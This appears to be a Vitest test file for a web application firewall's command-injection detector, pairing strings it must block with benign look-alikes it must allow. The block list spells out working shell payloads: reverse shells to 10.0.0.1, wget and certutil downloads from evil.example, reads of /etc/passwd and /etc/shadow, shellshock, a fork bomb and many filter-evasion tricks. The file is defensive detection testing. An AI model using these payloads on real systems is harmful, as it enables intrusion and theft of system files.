import { describe, expect, it, beforeAll } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";

// Command injection detector (rules 4000-4999). Expected outcomes are stated per case:
// attacks must reach the blocking threshold (5) at paranoia 1, benign look-alikes stay below it.
let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const ARG = 2; // TargetKind.ArgValue
const HEADER = 3; // TargetKind.Header

function rceScore(input: string, kind = ARG, paranoia = 1, name = kind === HEADER ? "header:user-agent" : "args:q"): number {
  const out = JSON.parse(h.callString("scanTarget", kind, name, input, paranoia));
  return out.matches.filter((m: { category: string }) => m.category === "rce").reduce((a: number, m: { id: number }) => a + (m.id === 4106 || m.id === 4107 || m.id === 4202 || m.id === 4307 ? 3 : 5), 0);
}

const attacks: [string, string][] = [
  ["openssl with a subcommand and options", "openssl s_client -connect evil.example:443"],
  ["openssl decoding a file", "openssl enc -d -base64 -in /tmp/x"],
  ["openssl as a reverse shell after a separator", ";openssl s_client -quiet -connect 10.0.0.1:4444|/bin/sh"],
  ["separator then reader with sensitive file", "; cat /etc/passwd"],
  ["quote-split words", "; cat /et'c/pa'ss'wd"],
  ["paired quotes inside the command word", "w'h'o'am'i"],
  ["one quote pair splitting the command", "c'a't /etc/shadow"],
  ["bracket globs after a separator", ";c[a]t /etc/pa[s]swd"],
  ["backslash evasion", "www.example.com;c\\at /etc/p\\asswd"],
  ["quote evasion in lower case beside a name", "i'd'; c'a't /etc/passwd # O'Brien"],
  ["positional parameters inside words", "host;c$@at /et$@c/pas$@swd"],
  ["$IFS as a space", ";getent$IFS$9hosts$IFS$9example.net;echo$IFS$9$((3482*7301));"],
  ["${IFS}", "x;cat${IFS}/etc/passwd"],
  ["brace expansion", "{cat,/etc/passwd}"],
  ["brace expansion inside a word", "{l,-lh}s /"],
  ["downloader after separator", ";wget http://some_host/sh311.sh"],
  ["and-list after an address", "127.0.0.1 && ls /etc"],
  ["command substitution", "$(whoami)"],
  ["weak command with a number after an or-list", "x || sleep 5"],
  ["BSD options without a dash", "x;ps aux"],
  ["weak command inside a substitution", "report.pdf$(sleep 5)"],
  ["Windows net subcommand", "1 & net localgroup administrators"],
  ["Windows net with carets", "1|n^e^t user"],
  ["Windows drive after a listing command", "1|dir C:\\"],
  ["Windows variable as the command", "1 | %COMSPEC% /c dir"],
  ["brace list holding a URL", "x$({wget,http://attacker.example/x,-O,/tmp/x})"],
  ["brace list right after an and-list", "1 || {sh,-i} #"],
  ["line break after the first token", "127.0.0.1\nid"],
  ["CR LF and an evasion after the first token", "admin\r\nwho'ami' &"],
  ["line break opening the value", "\r\nrm -rf /tmp/x"],
  ["slash spelled as a substring of PATH", "x;cat ${PATH:0:1}etc${PATH:0:1}passwd"],
  ["backticks", "`id`"],
  ["pipe to a shell", "echo foo | tr x o | sh"],
  ["prefix command", "time sh -c whoami"],
  ["quoted prefix", "ti''me curl example.org"],
  ["absolute binary path", "/usr/bin/python3 -m http.server"],
  // a lone absolute path is a command when it names a known program or follows a separator
  ["lone system shell path", "/bin/sh"],
  ["lone unknown program in a system directory", "/usr/sbin/ab"],
  ["unknown program after a separator", "x; /usr/local/bin/payment"],
  ["unknown program with arguments", "/usr/local/bin/payment --dump /etc/shadow"],
  ["globbed binary", "/???/??t /???/p??s??"],
  ["glob classes", "cat /etc/pa[s]swd"],
  // a first segment that a glob class made `?` and otherwise spells a system directory
  ["system directory behind a glob class", "/[e///]tc"],
  ["another system directory behind a glob class", "/[r///]oot"],
  ["reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
  ["shellshock", "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'"],
  ["fork bomb", ":(){ :|:& };:"],
  ["SSI exec", '<!--#exec cmd="dir" -->'],
  ["Windows for loop", "for /f \"delims=\" %i in ('cmd /c set') do echo %i"],
  ["Windows if exist", "IF EXIST C:\\pagefile.sys ECHO found"],
  ["Windows if comparison", 'if "%VAR%" == "after" @echo ok'],
  ["Windows carets", "&w^h^o^a^m^i"],
  ["PowerShell cmdlet", "Invoke-WebRequest http://example.com/path/file.ps1"],
  ["certutil download", "; certutil -urlcache -f http://evil.example/payload.exe"],
  ["Perl interpolation", "@{[system 'id']}"],
  ["Ruby spawn", 'Process.spawn("id")'],
  ["arithmetic expansion", "$((7*7))"],
  ["old arithmetic expansion", "$[7*7]"],
  ["empty old arithmetic expansion", "$[]"],
  ["substitution in old arithmetic", "$[$(id)]"],
  ["substitution after a JSONPath-like root", "$[0].x`id`"],
  ["tilde expansion", "~+"],
  ["alias", "alias a=curl"],
  ["SMTP injection", "\r\nRCPT TO:<postmaster@example.com>"],
  ["IMAP injection", "\r\na001 EXAMINE INBOX"],
  ["variables as commands", "a=nc&&$a -nlvp 555"],
  ["interpreter one-liner", "perl -e 'print 1'"],
  ["config management tool", "ansible-playbook site.yml\n"],
  ["empty substitution inside a word", "pi$()ng 127.0.0.1"],
  ["quote-split curl", "'c'url localhost"],
  ["variables assembling a command", "c1=c;c2=a;c3=t;$c1$c2$c3 /etc/passwd"],
  ["sqlite dot command", ";\n.shell nc 10.0.0.1 6666 -e sh"],
  ["glued Windows switch", "view=image.jpg&bcdboot/r file.txt"],
  ["here-string into an interpreter after a separator", ";irb<<<1+2"],
  ["quote-split interpreter with a version", '""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""'],
  ["quoted letters glued to a command", "'i'p a"],
  ["process substitution as the value", ">(tee log)"],
  ["batch if on a parameter, before its block", 'if not %1 == "" ('],
  ["batch if comparison then a command", "if foo==bar echo x"],
  ["batch if in mixed case after an operator", "1 & iF DeFined PATH echo x"],
  ["batch if after a prose word with an f", "of 1 & IF errorlevel 1 ping -n 3 x"],
  ["a variable assigned then run after a separator", "x;a=id;$a"],
  ["a shell named by its variable", "x;$SHELL -c id"],
  ["an empty variable before a command", ";$u cat /etc/passwd"],
  ["a system directory spelled with glob classes", "/[b]i[n]"],
  ["a hardening tool given a service name", "userdel web-admin"],
  ["a tool with subcommands on a line of its own", "ansible webservers ping\n"],
  ["VBScript running a joined string", 'On Error Resume Next:Ex"&"ecute("x=1"):Response.Write("ok")'],
  ["an interpreter binary named with its minor version", "php8.2 artisan serve"],
  // beside the regex look-alike below: with a blank the group is an argument; after `(` a separator still starts a command
  ["an escaped command word, a blank, then a group", "\\w (?P<x>\\S+)"],
  ["a command word glued to `(`, then a separator and a command", "c\\at(x) ; id"],
  ["quotes inside a lower-case command word, a capital between them", "who'A'mi"],
  ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
];

const benign: [string, string][] = [
  // openssl names a library people report versions and news of (a software inventory, a changelog's heading)
  ["openssl and its version", "openssl 3.0.13"],
  ["OpenSSL's version banner", "OpenSSL 3.0.2 15 Mar 2022"],
  ["openssl in a changelog heading", "openssl security advisory"],
  // (a glob class in a first segment that spells no system directory)
  ["bracket class before no system directory", "/[z///]zz"],
  ["bracket class before a longer name", "/[t///]mpx"],
  ["an application binary in a pod spec command list", "/usr/local/bin/grpc_health_probe"],
  // JSONPath roots (shell-patterns.ts jsonPathRoot)
  ["JSONPath filter", "$[?(@.price < 10)].title"],
  ["JSONPath quoted name", "$['store'].book[0]"],
  ["JSONPath index", "$[1].order"],
  ["JSONPath slice", "$[-1:]"],
  ["JSONPath wildcard", "$[*].id"],
  ["sentence about a download tool", "wget is a download tool"],
  ["menu title with a weak command and a word", "Home | more deals"],
  ["price with a date", "Price: 10 | date 2024"],
  ["percentages", "50% | 20% off"],
  ["a code snippet after a heading", "Steps:\nls -la"],
  ["a two-line note", "Thanks\ncat food arrives tomorrow"],
  ["several lines of shell in a comment", "Hello\nls -la\ncd /tmp"],
  ["net profit", "Q3 & net profit"],
  ["prose with cat", "My cat is called Felix; cat people are the best"],
  ["pipes in text", "price | quality | service were all fine"],
  ["code snippet with &&", "if (a && b) { return c; }"],
  ["markdown code span", "`type`, when used in a schema has special meaning"],
  ["markdown install line", "- `npm install --save-optional bufferutil`: binary addons"],
  ["man page synopsis", "chmod [OPTION]... OCTAL-MODE FILE..."],
  ["man page prose", "If the file does not exist it is created; if it does exist it is truncated."],
  ["English if", "If not defined, the default value is used"],
  ["JS if comparison", "if (err == null) callback()"],
  ["URL with query", "https://www.example.com/x?s=2014&ex=7&sort=ex"],
  ["field value base64", "base64"],
  ["field value lastlog", "lastlog"],
  ["user agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"],
  ["O'Brien", "O'Brien"],
  // a lone apostrophe opens a string the shell never closes: a name, not a quote evasion
  ["command word then a name with an apostrophe", "kill Sean O'Brien the select"],
  // names with an apostrophe between capitals (O'Brien's, D'Angelo) are no quote evasion; contractions neither
  ["command words, contractions and a name", "I'd cat city | su weight if it's slow; O'Brien's shipment won't ps"],
  ["don't and let's around command words", "don't kill the cat process, let's sort it out"],
  ["command words and a possessive", "top picks from D'Angelo for the cat lovers"],
  // two names pair their apostrophes into one quoted span; a capitalised part before each says name, not evasion
  ["command words and names whose apostrophes pair", "sort Sean Dell'Acqua Sean O'Brien order"],
  // regular expressions typed into config UIs: classes with quantifiers are no globs, `\w+` no escape
  ["regex with a class and quantifiers", "^\\w+order[a-z]+$"],
  ["e-mail regex", "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"],
  // a command word glued to `(` (here `\w` unescaped to `w`) opens a function definition or is a syntax error
  ["regex opening with a class escape and a group", "\\w(?P<discount>\\S+)status\\.[a-z]+price\\..+\\."],
  ["question after a separator", "items; so? yes"],
  ["shell docs", "string1 != string2 True if the strings are not equal.\n\nBash attempts to determine when it is being run; it reads /etc/bash.bashrc"],
  ["search term", "python tutorial"],
  ["markdown bullets", "* fixed a bug\n* added tests"],
  ["time in prose", "time flies like an arrow"],
  ["JSON-ish braces", "{a:1,b:2}"],
  ["email", "jane.doe@example.com"],
  // regression fixtures from the dev corpus's benign traffic
  ["contraction that reads like id", "I'd love to go out with you, but I'm taking my high school equivalency test"],
  ["wiki title naming a command", "chown notes"],
  ["npm script chain running a project script", "tshy && bash scripts/build.sh"],
  ["npm script removing build output", "rm -rf node_modules/ package-lock.json"],
  ["shell substitution in connection-string docs", "Connect with postgres://$(whoami)@localhost/my_database to use your login name"],
  ["bash docs on parameter expansion", "${parameter%%word} Remove matching suffix pattern. The word is expanded to produce a pattern just as in pathname expansion, and matched against the expanded value of parameter."],
  ["analytics cookie", "GS1.1.1764658893.1.1.1764658893.60.0.0$o1$g1$t1764658893$j60$l0$h0"],
  ["a note ending in a comparison (no batch syntax, no command)", "if foo=="],
  ["a question ending in if", "what if"],
  ["a sentence with if inside words", "Modify the config file; verify its offsets if needed"],
  ["an arrow in text", "input >(filtered) output"],
  ["unassigned variables after a semicolon (crs-932236-105)", "; $x $y $z are the unknowns"],
  ["a path with an array index", "/items[0]/name"],
  ["prose with a strong tool name", "knife-edge decisions"],
  ["a topic word then prose on its own line", "Curl up with a good book tonight\n"],
  ["a lower-case topic word then prose on its own line", "ssh into the box first\n"],
  ["VB forum question without a string run", "Is On Error Resume Next bad style? I use Response.Write(x) to debug"],
  ["a release note title", "python3.12 is out"],
  ["a capitalised version mention", "Python3.12 Release Notes"],
  ["a version without a minor part", "php8 tutorial"],
  ["user agent of a text browser", "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"],
];

describe("rce detector", () => {
  for (const [name, input] of attacks) {
    it(`blocks: ${name}`, () => {
      expect(rceScore(input)).toBeGreaterThanOrEqual(5);
    });
  }
  for (const [name, input] of benign) {
    it(`allows: ${name}`, () => {
      expect(rceScore(input)).toBeLessThan(5);
    });
  }
  // An empty variable pads a command word the way a blank does, and a tab is a blank to the shell: each
  // spelling with tabs scores as the one with spaces (`$garb pizza`, no command, stays below in both).
  it.each([
    [";cat$u /etc/passwd", true], ["|id$x ", true], ["a;$x wget http://evil.example/x -O /tmp/x", true],
    ["1|$garb nc -e /bin/sh 10.0.0.1 4444", true], ["x&&$u uname -a", true], [";${x} id", true], [";ping$x -c 3 127.0.0.1", true],
    ["$garb pizza", false], ["a;$garb pizza", false], ["price $5 each", false],
  ])("scores %j with tabs for its blanks as with spaces", (spaced, attack) => {
    const tabbed = spaced.replace(/ /g, "\t");
    const padTab = spaced.replace(/(\$\w+|\$\{x\}) /, "$1\t");
    expect(rceScore(spaced) >= 5).toBe(attack);
    expect(rceScore(tabbed)).toBe(rceScore(spaced));
    expect(rceScore(padTab)).toBe(rceScore(spaced));
  });

  it("blocks a lone recon command in a header but not a lone word in a field", () => {
    expect(rceScore("visudo", HEADER)).toBeGreaterThanOrEqual(5);
    expect(rceScore("lastlogin", ARG)).toBeLessThan(5);
  });
  const headerCases: [string, string, boolean][] = [
    ["a bare HTTP client name as User-Agent", "wget", false],
    ["an HTTP client product token", "Wget/1.21", false],
    ["another client name", "aria2c", false],
    ["shellshock in a header", "() { :;}; /bin/bash -c 'id'", true],
    ["a separator then a reader of a sensitive file", "; cat /etc/passwd", true],
    ["a downloader with arguments", "wget http://example.com/x.sh -O /tmp/x", true],
    ["a lone command as the User-Agent", "id", true],
    ["a command with an option as the User-Agent", "set -o vi", true],
    ["a tool and its subcommands as the User-Agent", "knife node show", true],
    ["a product name as the User-Agent", "Java", false],
    ["a crawler description", "Snap URL Preview Service; bot; snapchat", false],
    ["a runtime name", "node", false],
  ];
  for (const [name, input, blocked] of headerCases) {
    it(`${blocked ? "blocks" : "allows"} in a header: ${name}`, () => {
      if (blocked) expect(rceScore(input, HEADER)).toBeGreaterThanOrEqual(5);
      else expect(rceScore(input, HEADER)).toBeLessThan(5);
    });
  }
  const refererCases: [string, string, boolean][] = [
    ["a command line in a query value of the Referer", "https://shop.example/?q=env --version", true],
    ["the Referer itself is a command", "set -o vi", true],
    ["a search Referer", "https://www.google.com/search?q=cat+food+brands&hl=en", false],
    ["a Referer with ordinary parameters", "https://app.example/orders?page=2&sort=date", false],
    // shell-scan.ts isTokenThenOneLine: a token ending in a query pair's `=`, the value on the next line, reads
    // as a value that starts with a line break (as the same query's argument does)
    ["a command on the line after a query pair's `=`", "https://svc.local/app/view?q=\nhe'ad' -n1 /e??/p?ss?? #", true],
    ["prose on the line after a query pair's `=`", "https://a.example/notes?text=\nsee you at the office", false],
    ["a search on the line after `=`", "https://a.example/search?q=\nmeeting notes from monday", false],
  ];
  for (const [name, input, blocked] of refererCases) {
    it(`${blocked ? "blocks" : "allows"} as a Referer: ${name}`, () => {
      if (blocked) expect(rceScore(input, HEADER, 1, "header:referer")).toBeGreaterThanOrEqual(5);
      else expect(rceScore(input, HEADER, 1, "header:referer")).toBeLessThan(5);
    });
  }
  it("blocks uploads named like server configuration files, not ordinary uploads", () => {
    const FILENAME = 9;
    const s = (name: string) => JSON.parse(h.callString("scanTarget", FILENAME, "files:file", name, 1)).score;
    expect(s("wp-config.php")).toBeGreaterThanOrEqual(5);
    expect(s("settings. php")).toBeGreaterThanOrEqual(5);
    expect(s(".htaccess")).toBeGreaterThanOrEqual(5);
    expect(s("package.json")).toBeLessThan(5);
    expect(s("notes.txt")).toBeLessThan(5);
  });
  it("blocks command names spelled as globs (`?` for any letter, one `*`), as path names at a command position", () => {
    let seed = 99;
    const rand = (n: number) => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n;
    const words = ["whoami", "wget", "netcat", "ifconfig", "python3", "bash", "nc", "cat", "powershell", "base64"];
    for (const w of words) {
      for (let k = 0; k < 6; k++) {
        let g = w.split("").map((c, i) => (i > 0 && rand(3) === 0 ? "?" : c)).join("");
        if (k % 2 === 1 && g.length > 3) {
          const at = 1 + rand(g.length - 2);
          g = g.slice(0, at) + "*" + g.slice(at + 1 + rand(2));
        }
        if ((g.match(/[a-z]/g) ?? []).length < 2) continue;
        expect(rceScore(`; /???/${g}`), g).toBeGreaterThanOrEqual(5);
      }
    }
  });
  it("allows file globs that spell no command", () => {
    for (const input of ["; /???/f?o", "; /???/x*yz", "lib/*.js", "dist/cjs/*.d.ts", "src/**/*.test.ts", "*.png", "logs/app-2024-??.log"]) expect(rceScore(input), input).toBeLessThan(5);
  });
  it("never traps on random bytes", () => {
    let seed = 12345;
    const rand = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    const alphabet = ";|&`$(){}[]<>'\"\\^~!@#%*?=/-.:, \n\r\tabcdefghijklmnopqrstuvwxyzIFS0123456789";
    for (let n = 0; n < 300; n++) {
      let s = "";
      const len = Math.floor(rand() * 200);
      for (let i = 0; i < len; i++) s += alphabet[Math.floor(rand() * alphabet.length)];
      expect(() => h.callString("scanTarget", ARG, "args:q", s, 4)).not.toThrow();
    }
  });
});

// Prose that starts with a command word or names a command's option is no command line: the backtick closing a
// markdown code span opens nothing, an option followed by a sentence is a word about that option, and `>=` or `<=`
// before a version is a requirement, not a redirection. The same words typed as commands still score.
describe("command words in prose", () => {
  it.each([
    ["`config.yaml` (which also accepts comments), or pass it on the command line", false],
    ["see `README.md` (find more there) for details", false],
    ["`cat /etc/passwd` (x)", true],
    ["`which nc`", true],
    ["`ls`;`id`", true],
    ["x`id`", true],
    ["useradd --system gets a home directory only with the other flag", false],
    ["wget -q keeps it quiet in the logs", false],
    ["chmod -R changes all of the files below it", false],
    ["useradd --system svc", true],
    ["useradd --system", true],
    ["wget -q http://evil.example/a -O /tmp/a", true],
    ["chmod -R 777 /var/www", true],
    ["nc -e sh", true],
    [";useradd --system gets a home directory", true],
    ["egrep -r pass /etc", true],
    ["openssl >= 1.1.0 (optional, needed for the TLS backend)", false],
    ["curl <= 7.80 (affected by the bug)", false],
    // (alone too: openssl is a library people name with its version, as curl is)
    ["openssl >= 1.1.0", false],
    ["netstat output is a table of the open sockets;", false],
    ["wget keeps the file name from the link;", false],
    ["wget evil;", true],
    ["nmap scanme.example;", true],
    ["uname -a > /tmp/o", true],
    ["wget http://evil.example/x >/tmp/x", true],
  ])("%j blocked: %s", (input, attack) => {
    expect(rceScore(input) >= 5).toBe(attack);
  });
});

// A weak command word after a separator followed by plain words (`x; echo hello`) reads as a sentence; the same
// word spelled with a shell evasion (quotes or a backslash inside it, a brace list, `$IFS` glued to it) was written to run.
describe("weak commands injected with evasions", () => {
  it.each([
    ['x;e"c"ho pwned', true], ["x;ec\\ho pwned", true], ["x;echo$IFS$9pwned", true], ["abc|echo${IFS}pwned", true],
    ["x;{echo,pwned}", true],
    ["x; echo pwned", false], ["cats; echo the message to friends", false],
    ['IFS=, read -r a b; echo "$IFS"', false], ["don't; isn't it", false], ['set IFS to ","; then echo each field', false],
  ])("%j blocked: %s", (input, attack) => {
    expect(rceScore(input) >= 5).toBe(attack);
  });
});
